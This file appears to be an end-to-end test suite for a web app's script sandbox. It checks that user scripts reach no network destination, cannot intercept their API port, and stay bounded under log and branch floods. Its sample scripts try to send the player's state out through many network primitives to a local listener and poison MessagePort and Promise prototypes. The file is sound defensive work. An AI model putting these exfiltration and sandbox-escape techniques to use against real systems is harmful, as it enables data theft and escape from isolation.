/**
 * The script sandbox against scripts written to escape it (issue: a shared project's script
 * must reach nothing but its API). A listener on 127.0.0.1 counts every TCP connection made to
 * it: for every network primitive a worker has, it must count none, and the script must get an
 * error it can read. Then the escapes through the script's own port, and floods that must leave
 * the page responsive and Stop clickable.
 */
import { createServer } from 'node:http';
import { assertEqual, openApp, text, until, waitForBranches } from './support.mjs';

/** An HTTP listener on 127.0.0.1 that counts connections (an upgrade or a request alike). */
async function listener() {
  let connections = 0;
  const server = createServer((req, res) => res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' }).end('export default 1;'));
  server.on('connection', () => connections++);
  await new Promise((ok) => server.listen(0, '127.0.0.1', ok));
  return { url: `http://127.0.0.1:${server.address().port}`, ws: `ws://127.0.0.1:${server.address().port}`, connections: () => connections, close: () => server.close() };
}

/**
 * A script body that tries each network primitive; `probe(name, attempt)` logs `name: <error>`
 * or `name: REACHED`. The data it would send is the player's position (what a thief would take).
 */
function probes(l) {
  return `
const s = await sp.state();
const d = '?d=' + s.x;
const logLine = (name, outcome) => sp.log(name + ': ' + outcome);
async function probe(name, attempt) {
  try {
    await attempt();
    logLine(name, 'REACHED');
  } catch (e) {
    logLine(name, 'refused (' + (e && e.message ? e.message : String(e)) + ')');
  }
}
const never = (f) => new Promise((ok, no) => f(ok, no));
const G = globalThis;
await probe('import()', () => import('${l.url}/m.js' + d));
await probe('import(data:)', () => import('data:text/javascript,import "${l.url}/nested.js' + d + '"'));
await probe('importScripts', () => G.importScripts('${l.url}/s.js' + d));
await probe('fetch', () => G.fetch('${l.url}/f' + d));
await probe('XMLHttpRequest', () => never((ok, no) => { const x = new G.XMLHttpRequest(); x.open('GET', '${l.url}/x' + d); x.onload = ok; x.onerror = () => no(new Error('network error')); x.send(); }));
await probe('WebSocket', () => never((ok, no) => { const w = new G.WebSocket('${l.ws}/w' + d); w.onopen = ok; w.onerror = () => no(new Error('connection failed')); }));
await probe('WebSocketStream', () => new G.WebSocketStream('${l.ws}/wss' + d).opened);
await probe('WebTransport', () => new G.WebTransport('https://127.0.0.1:${new URL(l.url).port}/wt' + d).ready);
await probe('EventSource', () => never((ok, no) => { const e = new G.EventSource('${l.url}/e' + d); e.onopen = ok; e.onerror = () => no(new Error('connection failed')); }));
await probe('sendBeacon', () => { if (!G.navigator.sendBeacon('${l.url}/b', d)) throw new Error('not sent'); });
await probe('FontFace', () => new G.FontFace('x', 'url(${l.url}/font' + d + ')').load());
await probe('Worker', () => never((ok, no) => { const w = new G.Worker('${l.url}/worker.js' + d); w.onerror = () => no(new Error('failed to load')); setTimeout(ok, 300); }));
await probe('same-origin Worker', () => never((ok, no) => { const w = new G.Worker(new URL('/w.js' + d, location.href)); w.onerror = () => no(new Error('failed to load')); setTimeout(ok, 300); }));
await probe('SharedWorker', () => new G.SharedWorker('${l.url}/shared.js' + d));
await probe('RTCPeerConnection', () => new G.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${new URL(l.url).port}' }] }));
`;
}

const PRIMITIVES = [
  'import()', 'import(data:)', 'importScripts', 'fetch', 'XMLHttpRequest', 'WebSocket', 'WebSocketStream', 'WebTransport',
  'EventSource', 'sendBeacon', 'FontFace', 'Worker', 'same-origin Worker', 'SharedWorker', 'RTCPeerConnection',
];

async function runScript(page, source, until = '■ done', timeout = 20000) {
  await page.locator('[data-testid="script-source"]').fill(source);
  await page.locator('[data-testid="script-run"]').click();
  await page.waitForFunction(
    (end) => document.querySelector('[data-testid="script-log"]')?.textContent.includes(end),
    until,
    { timeout },
  ).catch(async () => {
    throw new Error(`script log: ${await text(page, 'script-log')}`);
  });
  return (await text(page, 'script-log')).split('\n');
}

function checkProbes(log, l, where) {
  for (const p of PRIMITIVES) {
    const line = log.find((x) => x.startsWith(`${p}: `));
    if (line === undefined) throw new Error(`${where}: no line for ${p} in ${JSON.stringify(log)}`);
    if (!line.startsWith(`${p}: refused (`) || line.length <= `${p}: refused ()`.length) throw new Error(`${where}: ${line}`);
  }
  assertEqual(l.connections(), 0, `${where}: connections the listener received`);
}

export async function aScriptReachesNoNetworkDestinationAndReadsWhyForEveryPrimitive({ page, baseUrl }) {
  const l = await listener();
  try {
    const errors = await openApp(page, baseUrl);
    await page.locator('[data-testid="script-panel"] summary').first().click();
    const log = await runScript(page, probes(l));
    checkProbes(log, l, 'the script panel');
    // Give late attempts (a retried socket) time to arrive before the count is final.
    await new Promise((r) => setTimeout(r, 500));
    assertEqual(l.connections(), 0, 'connections after the run');
    assertEqual(errors.filter((e) => !/Content Security Policy|Refused to|violates|Failed to load|net::ERR/.test(e)).join('\n'), '', 'console errors other than the refusals');
  } finally {
    l.close();
  }
}

/**
 * The policy on its own, with no global removed: a worker served from the sealed workers' folder
 * with the headers the site sends there tries each primitive with the real globals in place.
 */
export async function theSealedWorkersPolicyAloneRefusesEveryPrimitive({ page, baseUrl }) {
  const l = await listener();
  try {
    const headersText = await (await fetch(new URL('_headers', baseUrl))).text();
    const csp = /^\/assets\/sealed\/\*\n {2}Content-Security-Policy: (.+)$/m.exec(headersText)?.[1];
    if (csp === undefined) throw new Error(`_headers has no policy for assets/sealed: ${headersText}`);
    // The same policy the server sends with the real sealed workers.
    const real = await page.request.get(new URL('index.html', baseUrl).href);
    const entry = /assets\/index-[^"]+\.js/.exec(await real.text())[0];
    const worker = /sealed\/scriptWorker-[^`"]+\.js/.exec(await (await page.request.get(new URL(entry, baseUrl).href)).text())[0];
    assertEqual((await page.request.get(new URL(`assets/${worker}`, baseUrl).href)).headers()['content-security-policy'], csp, 'the policy served with the script worker');
    const probeUrl = new URL('assets/sealed/probe-worker.js', baseUrl).href;
    const body = `const sp = { state: async () => ({ x: 1 }), log: (t) => postMessage(t) };\n(async () => {\n${probes(l)}\npostMessage('■ done');\n})();`;
    await page.route(probeUrl, (route) => route.fulfill({
      status: 200,
      headers: { 'content-type': 'text/javascript', 'content-security-policy': csp, 'cross-origin-embedder-policy': 'require-corp' },
      body,
    }));
    await page.goto(baseUrl);
    const log = await page.evaluate((url) => new Promise((done) => {
      const lines = [];
      const w = new Worker(url, { type: 'module' });
      w.onmessage = (e) => {
        lines.push(e.data);
        if (e.data === '■ done') done(lines);
      };
    }), probeUrl);
    checkProbes(log, l, 'the policy alone');
  } finally {
    l.close();
  }
}

export async function aSearchObjectiveScriptReachesNoNetworkDestination({ page, baseUrl }) {
  const l = await listener();
  try {
    await openApp(page, baseUrl);
    await page.locator('[data-testid="script-panel"] summary').first().click();
    await page.locator('[data-testid="script-name"]').fill('thief');
    await page.locator('[data-testid="script-name"]').press('Tab');
    // Its top level runs once and score() every frame: each tries to send the state out.
    const attempt = (what) => `try { ${what} } catch (e) {}`;
    const tries = [
      `import('${l.url}/m.js?d=' + s.x).catch(() => {});`,
      `globalThis.fetch && globalThis.fetch('${l.url}/f?d=' + s.x).catch(() => {});`,
      `new FontFace('x', 'url(${l.url}/font?d=' + s.x + ')').load().catch(() => {});`,
      `new WebSocketStream('${l.ws}/wss?d=' + s.x).opened.catch(() => {});`,
    ].map(attempt).join('\n');
    await page.locator('[data-testid="script-source"]').fill(`const s = { x: 0 };\n${tries}\nfunction score(st) {\n  const s = st;\n${tries}\n  return st.x;\n}\n`);
    await page.locator('[data-testid="analysis-objective"]').selectOption({ label: 'script: thief' });
    await page.locator('[data-testid="analysis-algorithm"]').selectOption('beam');
    for (const [key, value] of [['alphabet', 'R,RA'], ['granularity', 4], ['horizon', 6], ['budget', 100], ['seed', 3], ['workers', 2]]) {
      await page.locator(`[data-testid="analysis-${key}"]`).fill(String(value));
    }
    await page.locator('[data-testid="analysis-run"]').click();
    await page.locator('[data-testid="analysis-result"]').first().waitFor({ timeout: 20000 });
    await new Promise((r) => setTimeout(r, 500));
    assertEqual(l.connections(), 0, 'connections the listener received from the search workers');
  } finally {
    l.close();
  }
}

/** Without the policy (a host that ignores `_headers`), scripts do not run at all, and say why. */
export async function withoutThePolicyScriptsRefuseToRunAndSayWhy({ page, baseUrl }) {
  const l = await listener();
  try {
    await openApp(page, `${baseUrl}?nocsp`);
    await page.locator('[data-testid="script-panel"] summary').first().click();
    const log = await runScript(page, `sp.log('ran'); await fetch('${l.url}/f');`, '✕');
    assertEqual(log.includes('ran'), false, 'the script ran');
    if (!log.at(-1).includes('scripts are off here: this page is served without the Content-Security-Policy')) throw new Error(`last line: ${log.at(-1)}`);
    assertEqual(l.connections(), 0, 'connections the listener received');
  } finally {
    l.close();
  }
}

/**
 * The escape of the last round: a script replaces MessagePort.prototype.postMessage (and the
 * event's data getter, and Promise.prototype.then) to catch its port and talk to the engine
 * worker directly. It must catch nothing, and the API must still work.
 */
export async function aScriptCannotCatchThePortItsApiTalksOver({ page, baseUrl }) {
  await openApp(page, baseUrl);
  await page.locator('[data-testid="script-panel"] summary').first().click();
  const log = await runScript(page, `
const caught = [];
const post = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function (...args) { caught.push('port'); return post.apply(this, args); };
const data = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data');
Object.defineProperty(MessageEvent.prototype, 'data', { get() { caught.push('event'); return data.get.call(this); } });
const then = Promise.prototype.then;
Promise.prototype.then = function (...args) { if (this && this.constructor !== Promise) caught.push('promise'); return then.apply(this, args); };
Object.defineProperty(Object.prototype, 'frame', { set(v) { caught.push('setter'); }, configurable: true });
const s = await sp.seek(12);
sp.log('frame', s.frame, 'caught', caught.length === 0 ? 'nothing' : caught.join(','));
`);
  assertEqual(log.find((x) => x.startsWith('frame ')), 'frame 12 caught nothing', 'what the script caught');
}

/**
 * Floods: an endless sp.log loop keeps the page responsive and Stop works at once; a loop of
 * branches stops at the run's limit with a readable error, and the project reopens.
 */
export async function floodsAreBoundedAndStopStaysResponsive({ page, baseUrl }) {
  await openApp(page, baseUrl);
  await page.locator('[data-testid="script-panel"] summary').first().click();
  // The per-run limit ends a plain loop with the reason.
  let log = await runScript(page, 'for (;;) sp.log("x");', '✕');
  if (!log.at(-1).startsWith('✕ line 1: Error: sp.log: a script run may log at most 10000 lines')) throw new Error(`last line: ${log.at(-1)}`);
  // Past the rate, lines are counted, and the count is shown.
  log = await runScript(page, 'for (let i = 0; i < 5000; i++) sp.log(i);');
  assertEqual(log.filter((x) => /^\d+$/.test(x)).length, 200, 'lines shown of a 5000-line burst');
  assertEqual(log.at(-2), '… 4800 lines dropped (more than 200 a second)', 'the dropped lines');
  // A loop that swallows the limit's error never ends: the page must stay responsive and Stop end it.
  await page.locator('[data-testid="script-source"]').fill('for (;;) { try { sp.log("flood", Date.now()); } catch (e) {} }');
  await page.locator('[data-testid="script-run"]').click();
  await page.waitForTimeout(2500);
  const t0 = Date.now();
  await page.evaluate(() => 1);
  const roundTrip = Date.now() - t0;
  if (roundTrip > 500) throw new Error(`the page took ${roundTrip} ms to answer during the flood`);
  const stopAt = Date.now();
  await page.locator('[data-testid="script-stop"]').click({ timeout: 2000 });
  await page.waitForFunction(() => document.querySelector('[data-testid="script-log"]')?.textContent.includes('■ stopped'), null, { timeout: 2000 });
  if (Date.now() - stopAt > 2000) throw new Error('Stop took more than 2 s');
  // A branch flood stops at the run's limit.
  log = await runScript(page, 'for (let i = 0; ; i++) await sp.branch("b" + i);', '✕', 180000);
  if (!log.at(-1).startsWith('✕ line 1: Error: branch("b100"): a script run may make at most 100 branches')) throw new Error(`last line: ${log.at(-1)}`);
  await until(async () => (await page.locator('[data-testid="branch"]').count()) === 100, '100 branches listed', 15000);
  const reloadAt = Date.now();
  await page.reload();
  await page.waitForSelector('.app[data-ready="true"]', { timeout: 15000 });
  await until(async () => (await page.locator('[data-testid="branch"]').count()) === 100, '100 branches after the reload', 15000);
  if (Date.now() - reloadAt > 15000) throw new Error('the project took more than 15 s to reopen');
  await waitForBranches(page, Array.from({ length: 100 }, (_, i) => `b${i}`));
}

/**
 * `npm start` serves modules one by one; its sealed workers must still be one file each under
 * the same policy: the same probes through the dev server.
 */
export async function theDevServerSealsScriptWorkersToo({ page }) {
  const { createServer: createViteServer } = await import('vite');
  const root = new URL('../..', import.meta.url).pathname;
  const vite = await createViteServer({ configFile: `${root}vite.config.ts`, logLevel: 'warn', server: { port: 0, strictPort: false, hmr: false } });
  await vite.listen();
  const l = await listener();
  try {
    const base = `http://127.0.0.1:${vite.httpServer.address().port}/`;
    const worker = await fetch(`${base}src/script/scriptWorker.ts?worker_file&type=module`);
    const body = await worker.text();
    if (!worker.headers.get('content-security-policy')?.startsWith("default-src 'none'")) throw new Error(`dev server policy: ${worker.headers.get('content-security-policy')}`);
    if (/^\s*import\s/m.test(body)) throw new Error('the dev server\'s sealed worker imports modules');
    await openApp(page, base);
    await page.locator('[data-testid="script-panel"] summary').first().click();
    const log = await runScript(page, probes(l), '■ done', 60000);
    checkProbes(log, l, 'the dev server');
  } finally {
    l.close();
    await vite.close();
  }
}
